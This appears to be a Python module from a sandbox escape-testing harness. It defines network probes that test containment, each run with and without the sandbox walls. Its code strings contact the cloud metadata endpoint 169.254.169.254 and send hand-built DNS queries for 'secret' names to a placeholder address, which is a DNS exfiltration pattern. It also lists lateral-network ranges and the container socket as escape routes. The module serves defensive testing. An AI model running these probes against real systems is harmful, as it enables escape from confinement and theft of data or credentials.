"""Ways out of a sandbox, as the drill's programs: those it has itself, and those only tests try.

Each is tried behind the walls and, as its positive control, without them.
"""

from collections.abc import Mapping
from typing import Final

from sequester.drill import host, straight
from sequester.drill.program import Bare, Layer, Program

CANARY: Final = "x" * 32
TO: Final[Mapping[str, str]] = {"v4": "192.0.2.1", "v6": "2001:db8::1", "canary": CANARY}
"""What an event may speak of, and where the runner's sink listens."""

# The runner's sink has neither these ports, addresses and servers, nor a container engine.
_NEEDS_MORE: Final = frozenset(
    [
        "TCP whatever proxy is set", "raw HTTPS to an approved host", "HTTP to a bare address", "port 22", "port 25",
        "port 8443", "lateral 10/8", "lateral 172.16/12", "lateral 192.168/16", "QUIC", "the container engine's socket",
    ]
)  # fmt: skip


def network_technique(
    name: str, body: str, event: Mapping[str, object], bare: Bare = Bare.REACHES_SINK, error: str = "EPERM"
) -> Program:
    return Program("network", name, body, {"kind": "network", **event}, error=error, bare=bare)


def call_technique(name: str, kind: str, body: str, syscall: str, bare: Bare = Bare.REACHES) -> Program:
    return Program("call", name, body, {"kind": kind, "syscall": syscall}, bare=bare)


def file_technique(name: str, body: str, error: str, layer: Layer, bare: Bare = Bare.REACHES) -> Program:
    return Program("file", name, body, None, layer=layer, error=error, bare=bare)


_QUERY: Final = r"query = b'\x12\x34\x01\x00\x00\x01' + bytes(6) + b'\x06secret\x07example\x04test\x00\x00\x01\x00\x01'"

TECHNIQUES: Final = (
    *(program for program in (*straight.DIRECT, *host.PROGRAMS) if program.name not in _NEEDS_MORE),
    network_technique(
        "TCP to instance metadata",
        "s = socket.create_connection(('169.254.169.254', to['port']), 5); s.sendall(b'GET /')",
        {"syscall": "connect", "address": "169.254.169.254"},
    ),
    network_technique(
        "DNS query by hand",
        f"{_QUERY}; socket.socket(2, 2).sendto(query, (to['v4'], 53))",
        {"syscall": "sendto", "name": "secret.example.test", "port": 53},
    ),
    network_technique(
        "DNS query by hand in a message",
        f"{_QUERY}; socket.socket(2, 2).sendmsg([query], [], 0, (to['v4'], 53))",
        {"syscall": "sendmsg", "name": "secret.example.test"},
    ),
    # The sink knows no name: that libc fails says nothing, that the sink hears it does.
    network_technique(
        "DNS query by libc",
        "try: socket.getaddrinfo('secret.example.test', 80)\nexcept socket.gaierror as e: deny()",
        {"syscall": "sendmmsg", "name": "secret.example.test"},
        error="ENOMSG",
    ),
    network_technique(
        "DNS query by libc, v4 only",
        "try: socket.gethostbyname('secret4.example.test')\nexcept socket.gaierror as e: deny()",
        {"syscall": "sendto", "name": "secret4.example.test"},
        error="ENOMSG",
    ),
    network_technique(
        "DNS over TCP",
        "s = socket.create_connection((to['v4'], 53), 5); s.sendall(b'x' * 30)",
        {"syscall": "connect", "address": "192.0.2.1", "port": 53},
    ),
)
